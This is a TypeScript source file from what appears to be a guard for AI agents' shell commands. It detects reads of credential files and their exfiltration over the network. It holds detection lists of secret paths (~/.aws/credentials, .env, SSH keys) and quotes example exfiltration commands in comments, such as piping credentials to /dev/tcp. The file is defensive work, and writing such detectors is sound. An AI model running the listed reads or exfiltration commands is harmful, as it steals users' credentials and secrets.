/*!
 * Secrets facts: a command that names a credential store an agent has no business reading
 * (`~/.aws/credentials`, `.env`, `*.pem`, `~/.ssh/id_*` …), and a network command that sends
 * one, or a dump of the environment, somewhere.
 */
import picomatch from 'picomatch';
import type { Analyzer, Fact } from '../facts.js';
import { absolutePath, homeOf } from '../path-class.js';
import { producers, FETCHERS } from '../producers.js';
import type { Context } from '../context.js';
import type { Command, Word } from '../../parser/model.js';
import { uploadSources } from './cloud-uploads.js';
import { printsCredential } from './credential-printers.js';
import { dict } from '../../util/dict.js';

const HOME_STORES = [
  '.aws/credentials',
  '.aws/config',
  '.config/gcloud/**',
  '.azure/**',
  '.railway/**',
  '.config/railway/**',
  '.kube/config',
  '.docker/config.json',
  '.netrc',
  '.ssh/id_*',
  '.config/gh/hosts.yml',
  '.npmrc',
  '.pgpass',
  '.git-credentials',
  '.vault-token',
  '.terraform.d/credentials.tfrc.json',
  '.config/doctl/config.yaml',
  '.fly/config.yml',
  '.heroku/**',
  '.pypirc',
  '.gnupg/**',
  // the stores themselves, archived or copied whole
  '.ssh',
  '.aws',
  '.gnupg',
  '.kube',
  '.config/gcloud',
  '.azure',
  '.docker',
];
const ANYWHERE = [
  '**/.env',
  '**/.env.*',
  '**/*.pem',
  '**/*.p12',
  '**/*.pfx',
  '**/*.key',
  '**/id_rsa',
  '**/id_ed25519',
  '**/id_ecdsa',
  '**/credentials.json',
  '**/service-account*.json',
  '**/*.tfstate',
  '**/secrets.yml',
  '**/secrets.yaml',
  '**/master.key',
];
const NOT_SECRET = /\.(pub|example|sample|template|dist)$|\.env\.(example|sample|template|dist|defaults)$/;

let matcher: ((abs: string, home: string) => boolean) | null = null;

function isSecretPath(abs: string, home: string): boolean {
  if (!matcher) {
    const any = picomatch(ANYWHERE, { dot: true });
    const inHome = picomatch(HOME_STORES, { dot: true });
    matcher = (a, h) => !NOT_SECRET.test(a) && (any(a) || (a.startsWith(h + '/') && inHome(a.slice(h.length + 1))));
  }
  const key = `${home}\0${abs}`;
  let secret = secretPaths.get(key);
  if (secret === undefined) {
    secret = matcher(abs, home);
    if (secretPaths.size >= 4096) secretPaths.clear();
    secretPaths.set(key, secret);
  }
  return secret;
}

/** Answers already worked out (paths repeat across commands and lines; the globs cost more than a lookup). */
const secretPaths = new Map<string, boolean>();

/** The words of a command that name files whose contents it reads or sends. */
function readWords(cmd: Command): Word[] {
  const p = cmd.program ?? '';
  const args = cmd.argv.slice(1);
  const inputs = cmd.redirects.filter((r) => r.op === '<').map((r) => r.target);
  // URL clients read the files they are told to send (`-d @f`, `-F x=@f`, `-T f`); their other words are URLs and options.
  if (URL_CLIENTS.has(p))
    return [
      ...args.filter(
        (w, i) =>
          /^@|=[@<]|^--(post-file|body-file|upload-file)=/.test(w.value) || /^(-T|--upload-file|--body-file|--post-file)$/.test(args[i - 1]?.value ?? ''),
      ),
      ...inputs,
    ];
  if (p === 'openssl') return [...opensslReads(args), ...inputs];
  const uploaded = uploadSources(p, args);
  if (uploaded) return [...uploaded, ...inputs];
  if (COPIERS.has(p)) {
    // `scp -i ~/.ssh/id_ed25519 f host:` logs in with the key; only the operands are copied.
    const skip = COPY_VALUE_OPTIONS[p];
    return [...args.filter((w, i) => !w.value.startsWith('-') && !skip?.has(args[i - 1]?.value ?? '')).slice(0, -1), ...inputs];
  }
  if (READERS.has(p) || FETCHERS.has(p)) {
    // The first operand of a filter or a search is its program or pattern, not a file (`jq '.key' package.json`).
    const program = PATTERN_FIRST.has(p) ? args.findIndex((w, i) => !w.value.startsWith('-') && !/^-(e|f|v|F)$/.test(args[i - 1]?.value ?? '')) : -1;
    return [...args.filter((w, i) => i !== program && !w.value.includes('://')), ...inputs];
  }
  return inputs;
}

/** Options of the copiers whose value is not a file they copy. */
const COPY_VALUE_OPTIONS: Record<string, Set<string>> = dict({
  scp: new Set(['-i', '-F', '-P', '-o', '-c', '-J', '-l', '-S', '-D', '-X']),
  rsync: new Set(['-e', '--rsh', '--exclude-from', '--include-from', '--files-from', '--password-file', '--log-file', '-T', '--temp-dir']),
});

/**
 * openssl prints a private key only in its key commands (`openssl rsa -in key.pem`, `pkey`, `pkcs12`);
 * elsewhere it uses the key to sign or make a request (`req -new -key server.key -out server.csr`),
 * and `-out`/`-keyout` are files it writes.
 */
const OPENSSL_KEY_PRINTERS = new Set(['rsa', 'pkey', 'ec', 'dsa', 'pkcs8', 'pkcs12', 'base64', 'enc']);

function opensslReads(args: Word[]): Word[] {
  if (!OPENSSL_KEY_PRINTERS.has(args[0]?.value ?? '')) return [];
  return args.filter((w, i) => !w.value.startsWith('-') && /^-(in|inkey|key)$/.test(args[i - 1]?.value ?? ''));
}

/** `gpg --export-secret-keys`: the private keys of the keyring, printed. */
function exportsPrivateKeys(cmd: Command): boolean {
  return (cmd.program === 'gpg' || cmd.program === 'gpg2') && cmd.argv.some((w) => /^--export-secret-(sub)?keys$/.test(w.value));
}

function secretWords(cmd: Command, ctx: Context): Fact[] {
  const home = homeOf(ctx);
  const out: Fact[] = [];
  if (exportsPrivateKeys(cmd)) out.push({ id: 'secrets.read', detail: '~/.gnupg (its private keys)', span: cmd.span });
  const words = readWords(cmd);
  const recursive = readsRecursively(cmd);
  for (const w of words) {
    if (w.dynamic) continue;
    for (const v of [w.value, w.value.replace(/^[^=]*=@?|^@/, '')]) {
      if (!v || /^-/.test(v)) continue;
      const abs = absolutePath(v, ctx);
      if (isSecretPath(abs, home) || (recursive && holdsStores(abs, home))) {
        out.push({ id: 'secrets.read', detail: w.value, span: w.span });
        break;
      }
    }
  }
  return out;
}

/** Programs that read whole directory trees: always, or with the short letters that make them recursive. */
const TREE_READERS = new Set(['tar', '7z', 'rg', 'ag', 'ack', 'rsync']);
const RECURSIVE_LETTERS: Record<string, RegExp> = dict({
  grep: /^-[a-zA-Z]*[rR]/,
  egrep: /^-[a-zA-Z]*[rR]/,
  fgrep: /^-[a-zA-Z]*[rR]/,
  zip: /^-[a-zA-Z]*r/,
  cp: /^-[a-zA-Z]*[rRa]/,
  scp: /^-[a-zA-Z]*r/,
});

function readsRecursively(cmd: Command): boolean {
  const p = cmd.program ?? '';
  if (TREE_READERS.has(p)) return true;
  if (uploadSources(p, cmd.argv.slice(1))) return true;
  const letters = RECURSIVE_LETTERS[p];
  return (
    !!letters && cmd.argv.slice(1).some((w) => (!w.value.startsWith('--') && letters.test(w.value)) || w.value === '--recursive' || w.value === '--archive')
  );
}

/**
 * A directory that holds the credential stores: the home directory, what is above it, and
 * `~/.config`. Searching or copying it whole (`grep -r TOKEN ~`, `tar cf - ~ | ssh …`) reads them.
 */
function holdsStores(abs: string, home: string): boolean {
  return abs === home || abs === '/' || home.startsWith(abs + '/') || abs === `${home}/.config`;
}

/** Commands that show, search or transform the contents of the files they name. */
const READERS = new Set([
  'cat',
  'bat',
  'less',
  'more',
  'head',
  'tail',
  'grep',
  'egrep',
  'fgrep',
  'rg',
  'ag',
  'ack',
  'awk',
  'gawk',
  'sed',
  'cut',
  'sort',
  'uniq',
  'strings',
  'xxd',
  'od',
  'hexdump',
  'base64',
  'base32',
  'jq',
  'yq',
  'source',
  '.',
  'nl',
  'tac',
  'diff',
  'cmp',
  'gpg',
  'openssl',
  'vim',
  'vi',
  'nvim',
  'nano',
  'emacs',
  'code',
  'view',
  'pr',
  'fold',
  'column',
  'paste',
  'python',
  'python3',
  'node',
  'ruby',
  'perl',
  'php',
  'envsubst',
  'dotenv',
  'xclip',
  'pbcopy',
  'wl-copy',
  'tee',
  'split',
  'zcat',
  // archivers read every file they are given (the archive's own name is not a secret)
  'tar',
  'zip',
  '7z',
  'gzip',
  'bzip2',
  'xz',
  'zstd',
]);
const PATTERN_FIRST = new Set(['jq', 'yq', 'awk', 'gawk', 'sed', 'grep', 'egrep', 'fgrep', 'rg', 'ag', 'ack']);
const URL_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'httpie', 'aria2c']);

/** Commands that copy their source files somewhere (the last path is the destination). */
const COPIERS = new Set(['cp', 'scp', 'rsync', 'install']);

const ENV_DUMPS = new Set(['env', 'printenv', 'set', 'export', 'declare']);

export const secretsAnalyzer: Analyzer = ({ view, ctx }) => {
  const cmd = view.cmd;
  const facts = secretWords(cmd, ctx);
  // What is piped into a network client leaves the machine (ssh carries its stdin to the remote command).
  // `cat ~/.aws/credentials > /dev/tcp/host/80`: bash opens a connection and sends what the command prints.
  if (cmd.redirects.some((r) => r.op.startsWith('>') && /^\/dev\/(tcp|udp)\//.test(r.target.value)) && facts.length) {
    facts.push({ id: 'secrets.exfil', detail: facts[0].detail, span: cmd.span });
  }
  // a secret copied to a bucket or a remote leaves the machine
  if (facts.length && cmd.program && uploadSources(cmd.program, cmd.argv.slice(1)))
    facts.push({ id: 'secrets.exfil', detail: facts[0].detail, span: cmd.span });
  if (cmd.program && (FETCHERS.has(cmd.program) || cmd.program === 'ssh') && cmd.program !== 'gh') {
    const fed = producers(cmd);
    const leaked = fed.flatMap((c) => secretWords(c, ctx));
    const dump = fed.find((c) => c.program && ENV_DUMPS.has(c.program) && c.argv.length === 1);
    // a printed credential piped in is sent; one in `$(…)` is mostly the request's own authentication (`-H "Authorization: …"`)
    const token = cmd.stdin?.kind === 'pipe' ? cmd.stdin.from.find(printsCredential) : undefined;
    const sent = facts.length > 0 || leaked.length > 0 || dump || token;
    const what = facts[0]?.detail ?? leaked[0]?.detail ?? (token ? `the credential \`${token.text.slice(0, 60)}\` prints` : 'the environment');
    if (sent) facts.push({ id: 'secrets.exfil', detail: what, span: cmd.span });
  }
  return facts;
};
